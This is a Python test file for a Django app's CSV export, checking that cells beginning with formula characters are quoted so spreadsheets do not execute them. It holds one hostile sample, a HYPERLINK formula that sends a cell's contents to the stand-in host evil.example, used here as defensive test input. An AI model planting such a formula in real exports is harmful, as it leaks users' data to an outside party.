"""CSV downloads escape cells a spreadsheet would run as a formula (docs/security.md, C6)."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from tests.test_sessions import outcome_plan
from triggerfinder.models import BodyRegion
from triggerfinder.presentation.csvsafe import safe_cell

HOSTILE = '=HYPERLINK("https://evil.example/?d="&A1,"Nacken")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_text_cell_starting_a_formula_gets_a_quote(start):
    assert safe_cell(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("value", ["Nacken", "Unterer Rücken", "a=b", "", 6, -1, 0.5, None])
def test_other_cells_stay_as_they_are(value):
    assert safe_cell(value) == value


@pytest.mark.django_db
def test_outcomes_csv_escapes_a_knowledge_text_formula(lead_client, therapist):
    neck = BodyRegion.objects.get(slug="neck")
    neck.name_de = HOSTILE
    neck.save()
    outcome_plan(therapist, baseline=10, pains=[9, 9, 9, 9, 9, 3], chronic=True, region="neck")
    response = lead_client.get(reverse("triggerfinder:outcomes-csv"))
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    labels = [row[2] for row in rows if row[1] == "region"]
    assert labels and all(label == "'" + HOSTILE for label in labels)
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)


@pytest.fixture
def lead_client(client, lead):
    client.force_login(lead)
    return client
